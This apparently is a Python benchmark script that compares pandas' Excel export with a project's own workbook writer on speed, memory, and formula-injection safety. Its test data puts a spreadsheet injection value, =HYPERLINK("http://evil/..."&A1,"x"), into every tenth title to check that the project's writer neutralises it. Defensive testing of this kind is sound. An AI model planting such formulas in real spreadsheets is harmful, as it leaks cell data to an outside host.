"""The one workbook writer against the one it replaced.

A register-like table (``--rows`` rows: ids, Chinese titles, amounts, dates, booleans, JSON, and
one in ten titles hostile, ``=HYPERLINK(...)``), in one run:

- baseline: ``pandas.DataFrame.to_excel`` through ``pd.ExcelWriter(engine="openpyxl")`` plus the
  column-width loop the register used (what 7 modules did before) — writes live formulas;
- ours: ``restoration.workbook.workbook_bytes`` (write-only openpyxl, every text cell typed as
  text, quote prefix, widths from the first 200 rows, frozen header);

times (best of ``--repeat``, the runs interleaved), the ratio, peak memory of each (tracemalloc), and a check that
ours holds no formula cell while the baseline holds one per hostile title.

    python benchmarks/workbook.py [--rows 50000] [--repeat 3]
"""
from __future__ import annotations

import argparse
import io
import sys
import time
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))


def _frame(n: int) -> pd.DataFrame:
    rng = np.random.default_rng(7)
    titles = [f"石岭县某采石场越界开采破坏林地案 {i}" for i in range(n)]
    for i in range(0, n, 10):
        titles[i] = f'=HYPERLINK("http://evil/{i}"&A1,"x")'
    return pd.DataFrame({
        "案件编号 case_id": [f"GX-2025-{i:05d}" for i in range(n)], "案件名称 title": titles,
        "地区 region": rng.choice(["石岭县", "柳溪县", "青岚县"], n),
        "损害数额 damage_amount_yuan": rng.uniform(1e4, 1e8, n).round(2),
        "发生日期 incident_date": pd.date_range("2020-01-01", periods=n, freq="h").date,
        "已公开 disclosed": rng.random(n) < 0.3, "逾期 overdue": rng.integers(0, 5, n),
        "修复方式 restoration_modes": ['["in_situ", "alternative"]'] * n,
    })


def _baseline(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as xl:
        frame.to_excel(xl, sheet_name="register", index=False)
        sheet = xl.sheets["register"]
        sheet.freeze_panes = "A2"
        for i, col in enumerate(frame.columns, 1):
            width = max([len(str(col))] + [len(str(v)) for v in frame[col].head(200)]) + 2
            sheet.column_dimensions[sheet.cell(1, i).column_letter].width = min(width, 60)
    return buffer.getvalue()


def _ours(frame: pd.DataFrame) -> bytes:
    from restoration.workbook import workbook_bytes
    return workbook_bytes({"register": frame})


def _best(fns, frame, repeat):
    """Best time of each function, the runs interleaved (other load on the machine hits both)."""
    best = {fn: float("inf") for fn in fns}
    out = {}
    for _ in range(repeat):
        for fn in fns:
            t0 = time.perf_counter()
            out[fn] = fn(frame)
            best[fn] = min(best[fn], time.perf_counter() - t0)
    return best, out


def _peak(fn, frame) -> int:
    tracemalloc.start()
    fn(frame)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


def _formulas(data: bytes) -> int:
    import openpyxl
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return sum(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--rows", type=int, default=50_000)
    parser.add_argument("--repeat", type=int, default=3)
    args = parser.parse_args()
    frame = _frame(args.rows)
    best, data = _best((_baseline, _ours), frame, args.repeat)
    base_t, ours_t, base_data, ours_data = best[_baseline], best[_ours], data[_baseline], data[_ours]
    base_mem, ours_mem = _peak(_baseline, frame), _peak(_ours, frame)
    hostile = (args.rows + 9) // 10
    print(f"{args.rows:,} rows x {frame.shape[1]} columns, {hostile:,} hostile titles")
    print(f"baseline pandas.to_excel (openpyxl): {base_t:6.2f} s  peak {base_mem / 2**20:7.1f} MiB  "
          f"formula cells {_formulas(base_data):,}")
    print(f"restoration.workbook:                {ours_t:6.2f} s  peak {ours_mem / 2**20:7.1f} MiB  "
          f"formula cells {_formulas(ours_data):,}")
    print(f"ratio ours/baseline: time {ours_t / base_t:.2f}x, memory {ours_mem / base_mem:.2f}x")


if __name__ == "__main__":
    main()
